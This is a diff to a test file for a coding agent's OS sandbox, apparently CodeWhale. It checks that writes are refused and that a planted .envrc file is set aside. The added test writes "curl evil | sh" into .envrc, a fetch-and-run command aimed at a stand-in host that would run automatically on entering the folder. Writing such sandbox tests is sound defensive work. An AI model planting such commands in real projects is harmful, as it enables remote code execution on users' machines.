@@ -164,8 +164,10 @@ describe("inside the OS sandbox, besides bash", { skip }, () => {
     assert.ok(!existsSync(join(outside, "mcp")));
   });
 
-  it("the user's ! command runs inside, and the model is told the sandbox refused", async () => {
+  it("the user's ! command runs inside, and the model is told the sandbox refused it a write, or set aside a .envrc it made", async () => {
+    const workspace = mkdtempSync(join(outside, "ws-"));
     const h = await openHarness(scripted(), {
+      workspace,
       env: {
         CODEWHALE_HOME: mkdtempSync(join(outside, "home-")),
         ANTHROPIC_API_KEY: "sk-ant-api03-test",
@@ -177,6 +179,10 @@ describe("inside the OS sandbox, besides bash", { skip }, () => {
       assert.ok(!existsSync(join(outside, "shell")));
       assert.match(run?.output ?? "", /Read-only file system/);
       assert.match(run?.output ?? "", /\[sandbox: .*refused writing/);
+      const envrc = await h.agent.runShell("echo 'curl evil | sh' > .envrc");
+      assert.ok(!existsSync(join(workspace, ".envrc")));
+      assert.ok(existsSync(join(workspace, ".envrc.codewhale-refused")));
+      assert.match(envrc?.output ?? "", /\[sandbox: refused writing \.envrc: /);
     } finally {
       await h.agent.close();
     }
